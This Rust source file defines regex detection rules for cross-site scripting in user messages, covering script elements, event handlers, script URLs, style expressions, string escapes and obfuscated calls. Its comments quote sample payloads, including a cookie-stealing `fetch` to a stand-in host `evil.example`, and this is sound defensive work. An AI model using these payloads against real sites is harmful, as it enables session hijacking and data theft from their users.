//! Markup and script that a browser would run for whoever reads the message (CWE-79).
//!
//! What is looked for is what runs: script elements with code or a source, event handlers within a tag, URLs that are script,
//! and ways out of a script's string. Tags as such are left alone (`<b>`, `<img src>`, an `<iframe>` of a video), and so are
//! names of tags in prose, Markdown, generics, JSX (`onClick={save}`) and a bare `alert(1)`. Refused whoever sends them, since
//! nothing tells them from attacks: pasted HTML with a script element that does something, or with a handler in quotes.
//!
//! Not found: text that is escaped for HTML already (`&lt;script&gt;`, which honest clients send), directives of one framework
//! (`ng-init`, `v-html`), links and frames that leave for another site, and script assembled from pieces that hold no name of
//! the browser's.

#[cfg(test)]
mod tests;

/// A pattern from its parts: strings, and the words below.
macro_rules! html {
    // The start of a tag: as it is, wide, encoded for a URL or a string, or in UTF-7.
    (@LT) => { r"(?:[<\uff1c]|%(?:25)?3c|\\(?:x|u00)3c|\+adw-)" };
    // What ends a tag's name or an attribute.
    (@GAP) => { r#"(?:[\x00-\x20/+"'`]|%(?:0[09acd]|2[0f27]))"# };
    // Within a tag, behind its name, where a quoted `>` does not end it.
    (@ATTRIBUTES) => { r#"(?:[^>]|>["'])*"# };
    (@EQ) => { r"(?:[\x00-\x20]|%20)*(?:=|%(?:25)?3d)(?:[\x00-\x20]|%20)*" };
    (@QUOTE) => { r#"(?:["'`]|%2[27])"# };
    // What attackers call first.
    (@CALL) => { concat!(
        r"(?:(?:alert|confirm|prompt|eval|fetch|import|atob|settimeout|setinterval|\$\.get)\s*[(`]",
        r"|(?:document|window|self|top|parent|globalthis)\[|(?:window|document)\.\w",
        r"|location\s*=|location\.(?:href|hash|replace|assign|search)\b)",
    ) };
    // A letter of a scheme that is written as a character reference, and another reference.
    (@REF) => { r"|&#(?:x0*\w\w|0*\d\d\d?);?)(?:[\x00-\x20]|%0[09ad]|&(?:tab|newline);|&#(?:x0*\w|0*\d\d?);?)*" };
    (@$literal:literal) => { $literal };
    ($($part:tt)+) => { concat!("(?i)", $(html!(@$part)),+) };
}

/// Name and pattern.
pub(super) const RULES: &[(&str, &str)] = &[
    // An element of code: `<script>alert(1)</script>`.
    (
        "cross_site_scripting.script_code",
        html![
            r"(?:^|[^:])" LT r"(?:\w+:)?script(?:[\s/][^>%]*)?(?:>|%(?:25)?3e)(?:[^\s<:`][^\s<]*[(`=;\[]"
            r"|\s+[\w/][^\s<]*[(`=;\[]|\s*(?:var|let|const|throw|import|new)\s|[^<]*[(`=;\[][^<]*" LT r"/script)"
        ],
    ),
    // An element of code from elsewhere: `<script src=//evil.example/x.js>`.
    ("cross_site_scripting.script_source", html![LT r"(?:\w+:)?script" GAP ATTRIBUTES r"(?:src|href)" EQ r"\S"]),
    // An attribute that is code: `<img src=x onerror=alert(1)>`.
    (
        "cross_site_scripting.event_handler",
        html![LT r"[a-z][\w-]*(?::\w+)?" GAP r"(?:" ATTRIBUTES GAP r")?on[a-z]{3,}" EQ r"(?:[^={\s]|\{\s*" CALL r")"],
    ),
    // The same, out of an attribute that is there: `" autofocus onfocus="alert(1)`.
    (
        "cross_site_scripting.attribute_escape",
        html![
            GAP r"on(?:error|load|focus|blur|click|dblclick|mouse\w+|pointer\w+|key\w+|toggle|input|change|submit"
            r"|select|copy|cut|paste|drag\w*|drop|animation\w+|transition\w+|wheel|scroll|resize|begin|start)" EQ r"(?:"
            QUOTE r"?" CALL r"|" QUOTE r"[\w$.\[\]]+[(`=])"
        ],
    ),
    // A URL that is code: `javascript:alert(1)`, also as `jav&#x0A;ascript:`.
    (
        "cross_site_scripting.script_url",
        html![
            r"(?:j" REF r"(?:a" REF r"(?:v" REF r"(?:a" REF r"(?:s" REF r"(?:c" REF r"(?:r" REF r"(?:i" REF r"(?:p" REF
            r"(?:t" REF r"(?::|&colon;|&#(?:58|x3a);?|%3a)(?:[^\sv][^\s]*[(`=\[<]|v(?:ar\b|oid[\s(]*[^\s\d()])|\s*" CALL
            r")"
            r"|vbscript:\s*\w+[\s(]"
        ],
    ),
    // A URL that is a document: `data:text/html,<script>…`.
    (
        "cross_site_scripting.document_url",
        html![
            r"data:(?:text/(?:html|xml|javascript)|application/(?:xhtml\+xml|javascript))\s*[,;]"
            r"|data:image/svg\+xml[^,]*,(?:" LT r"svg\b.*" LT r"script|.*/svg(?:>|%3e)#)"
        ],
    ),
    // An element that brings a document or moves this one: `<iframe srcdoc=…>`.
    (
        "cross_site_scripting.document_element",
        html![
            LT r"(?:(?:iframe|meta|link|object|applet)" GAP ATTRIBUTES r"(?:srcdoc" EQ r"|http-equiv" EQ QUOTE
            r"?(?:refresh"
            r"|set-cookie)|rel" EQ QUOTE r"?import|(?:data|code(?:base)?)" EQ QUOTE r"?(?:https?:)?//)|(?:base|embed)"
            GAP ATTRIBUTES r"(?:href|src)" EQ QUOTE r"?(?:https?:)?//)"
        ],
    ),
    // An animation that writes such an attribute: `<set attributeName=onmouseover to=…>`.
    ("cross_site_scripting.animated_attribute", html![r"attributename" EQ QUOTE r"?(?:on[a-z]{3,}|(?:xlink:)?href\b)"]),
    // Style that is code: `style="width:expression(alert(1))"`.
    (
        "cross_site_scripting.style_code",
        html![
            r"(?::\s*|\*/)(?:e|\\0*65)(?:/\*[^*]*\*/)?(?:x"
            r"|\\0*78)(?:/\*[^*]*\*/)?p(?:/\*[^*]*\*/)?r(?:/\*[^*]*\*/)?ession\s*\(|-moz-binding\s*:\s*url"
            r"|[;{\x22'\s]behavior\s*:\s*url\(\s*['\x22]?(?:https?:)?//"
        ],
    ),
    // Out of a script's string: `';alert(1)//`.
    (
        "cross_site_scripting.string_escape",
        html![
            r#"(?:^[^'"`]*(?:['"`]|%2[27]|&#(?:39|x27);|&(?:apos|quot);)(?:[\s\-;,+*/%^|&)}\]<>=?:~!]|%0[ad]|%3b)+\(*"#
            CALL r"|\$\{\s*(?:alert|confirm|prompt|eval)\s*[(`])"
        ],
    ),
    // What scripts are stolen for: `fetch('//evil.example/?'+document.cookie)`.
    (
        "cross_site_scripting.cookie_theft",
        html![
            r"(?:(?:alert|confirm|prompt|eval)\s*[(`]\s*(?:\w+\.)?|[=/?&]['\x22`]\s*\+\s*(?:\w+\()?(?:\w+\.)?"
            r"|[=/?&]\$\{(?:\w+\()?|sendbeacon\([^)\s]*,\s*)(?:document\.(?:cookie|domain)|localstorage\b)"
        ],
    ),
    // Calls that hide their name: `top['al'+'ert'](1)`, `eval(atob('…'))`.
    (
        "cross_site_scripting.hidden_call",
        html![
            r#"(?:\b(?:top|self|window|parent|frames|globalthis|this|document)\s*\[\s*(?:['"`](?:alert|eval|confirm"#
            r#"|prompt)['"`]|['"`]\w*['"`]\s*\+\s*['"`]|['"`]\\[xu]|/\w+/\.source|atob|\d+\s*\.\.tostring)|\b(?:eval"#
            r"|execscript|alert|document\.write(?:ln)?|settimeout|function)\s*[(`]\s*(?:atob|unescape"
            r"|string\.fromcharcode|decodeuri\w*|location\.)|\beval\s*\(\s*(?:window\.)?name\b|settimeout`"
            r"|\(!\[\]\+\[\]\)\[|\bonerror\s*=\s*(?:alert|eval|confirm|prompt)\b|\bimport\(\s*['\x22`]//|\]\.(?:map"
            r"|find|foreach|some|every|filter)\(\s*(?:alert|eval|confirm|prompt)\s*\))"
        ],
    ),
    // Code by way of a constructor: `{{constructor.constructor('alert(1)')()}}`.
    (
        "cross_site_scripting.constructor_call",
        html![
            r#"(?:[.\['"`]|\{\{\s*)constructor(?:['"`]\s*\])?\s*(?:\(\s*['"`]|`\w+(?:\\x|\()|\.\s*constructor\b"#
            r#"|\[\s*['"`]constructor)"#
        ],
    ),
];
